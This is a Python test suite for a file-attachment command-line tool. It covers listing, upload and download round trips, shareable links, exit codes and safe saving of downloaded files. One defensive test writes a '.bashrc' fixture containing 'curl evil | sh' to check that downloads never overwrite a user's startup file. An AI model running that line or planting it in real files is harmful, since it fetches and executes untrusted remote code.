"""`satchel ls|upload|get|link` against the real local service, as a script uses them."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import httpx
import pytest

from tests.cli.conftest import Runner


@pytest.fixture
def env_account(sandbox, rw_key: str) -> dict[str, str]:
    return {"SATCHEL_URL": sandbox.base_url, "SATCHEL_SECRET": rw_key}


def _first_card_path(satchel: Runner, env: dict[str, str]) -> tuple[str, str]:
    """(BOARD/LIST/CARD by names, card id) of the first card of the demo data."""
    parts: list[str] = []
    path = ""
    for _level in range(3):
        listed = satchel("ls", path, "--json", env=env)
        assert listed.code == 0, listed.err
        node = json.loads(listed.out.splitlines()[0])
        parts.append(node["name"])
        path = "/".join(parts)
    return path, node["id"]


def test_ls_walks_the_tree_by_names(satchel: Runner, env_account: dict[str, str]) -> None:
    card_path, _card_id = _first_card_path(satchel, env_account)
    attachments = satchel("ls", card_path, env=env_account)
    assert attachments.code == 0, attachments.err
    described = satchel("ls", card_path, "--json", env=env_account)
    expected = [json.loads(line) for line in described.out.splitlines()]
    rows = [line.split("\t") for line in attachments.out.splitlines()]
    assert expected and [(r[0], r[-1]) for r in rows] == [(a["id"], a["name"]) for a in expected]
    assert "link" in {r[1] for r in rows}  # the card's link says so instead of a size
    missing = satchel("ls", "no such board", env=env_account)
    assert missing.code == 5
    assert "no such board" in missing.err


def test_upload_get_link_round_trip(
    satchel: Runner, env_account: dict[str, str], tmp_path: Path
) -> None:
    _path, card_id = _first_card_path(satchel, env_account)
    source = tmp_path / "Grüße, a file\nwith a newline.bin"
    source.write_bytes(bytes(range(256)) * 4099)

    uploaded = satchel("upload", card_id, str(source), env=env_account)
    assert uploaded.code == 0, uploaded.err
    attachment_id, name = uploaded.out.rstrip("\n").split("\t", 1)
    assert name == "Grüße, a file\\nwith a newline.bin"  # a terminal shows it on one line

    target = tmp_path / "copy.bin"
    got = satchel("get", attachment_id, "-o", str(target), env=env_account)
    assert got.code == 0, got.err
    assert (
        hashlib.sha256(target.read_bytes()).digest() == hashlib.sha256(source.read_bytes()).digest()
    )

    linked = satchel("link", attachment_id, env=env_account)
    assert linked.code == 0, linked.err
    url, expiry = linked.out.splitlines()
    assert expiry.startswith("expires 20")
    assert env_account["SATCHEL_SECRET"] not in url
    fetched = httpx.get(url)  # anyone can use it, with no credential
    assert fetched.status_code == 200
    assert fetched.content == source.read_bytes()


def test_exit_codes_scripts_rely_on(
    satchel: Runner, sandbox, env_account: dict[str, str], ro_key: str, tmp_path: Path
) -> None:
    _path, card_id = _first_card_path(satchel, env_account)
    small = tmp_path / "small.txt"
    small.write_text("x")

    unknown_key = {**env_account, "SATCHEL_SECRET": "ixk_" + "0" * 40}
    assert satchel("ls", env=unknown_key).code == 3

    read_only = {**env_account, "SATCHEL_SECRET": ro_key}
    refused = satchel("upload", card_id, str(small), env=read_only)
    assert refused.code == 4
    assert ro_key not in refused.err

    assert satchel("get", "00000000-0000-4000-8000-000000000000", env=env_account).code == 5

    vanished = satchel("upload", card_id, str(tmp_path / "gone.txt"), env=env_account)
    assert vanished.code == 10
    assert "gone.txt" in vanished.err

    closed_port = {**env_account, "SATCHEL_URL": "http://127.0.0.1:9"}
    assert satchel("ls", env=closed_port).code == 7


def test_upload_of_a_folder_sends_every_file_below_it_without_asking(
    satchel: Runner, env_account: dict[str, str], tmp_path: Path
) -> None:
    _path, card_id = _first_card_path(satchel, env_account)
    folder = tmp_path / "drawings"
    (folder / "old").mkdir(parents=True)
    (folder / "a.txt").write_text("first")
    (folder / "old" / "b.txt").write_text("second")
    (tmp_path / "empty").mkdir()

    uploaded = satchel("upload", card_id, str(folder), env=env_account)
    assert uploaded.code == 0, uploaded.err
    names = [line.split("\t", 1)[1] for line in uploaded.out.splitlines()]
    assert sorted(names) == ["a.txt", "b.txt"]

    nothing = satchel("upload", card_id, str(tmp_path / "empty"), env=env_account)
    assert nothing.code == 2
    assert "no files in" in nothing.err


def test_version_and_module_entry(satchel: Runner) -> None:
    shown = satchel("--version")
    assert shown.code == 0
    assert shown.out.startswith("satchel ")


def test_get_into_a_folder_never_replaces_or_hides(
    satchel: Runner, env_account: dict[str, str], tmp_path: Path
) -> None:
    _path, card_id = _first_card_path(satchel, env_account)
    sources = tmp_path / "theirs"
    sources.mkdir()
    hostile = sources / ".bashrc"
    hostile.write_text("curl evil | sh\n")
    uploaded = satchel("upload", card_id, str(hostile), env=env_account)
    assert uploaded.code == 0, uploaded.err
    attachment_id = uploaded.out.split("\t", 1)[0]

    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    got = satchel("get", attachment_id, "-o", str(home), env=env_account)
    assert got.code == 0, got.err
    assert (home / ".bashrc").read_text() == "mine\n"
    assert (home / "_.bashrc").read_text() == "curl evil | sh\n"  # saved visibly

    (home / "_.bashrc").write_text("mine too\n")
    again = satchel("get", attachment_id, "-o", str(home), env=env_account)
    assert again.code == 2 and "already exists" in again.err
    assert (home / "_.bashrc").read_text() == "mine too\n"

    named = satchel("get", attachment_id, "-o", str(home / "_.bashrc"), env=env_account)
    assert named.code == 0, named.err  # a file named explicitly is replaced
    assert (home / "_.bashrc").read_text() == "curl evil | sh\n"
